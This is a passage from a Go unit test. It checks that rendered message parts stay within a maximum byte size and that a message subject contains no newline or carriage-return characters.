			require.LessOrEqual(t, len(part), plan.MaxRenderedBytes)
		}
		require.NotContains(t, m.Subject, "\n")
		require.NotContains(t, m.Subject, "\r")
	})
}
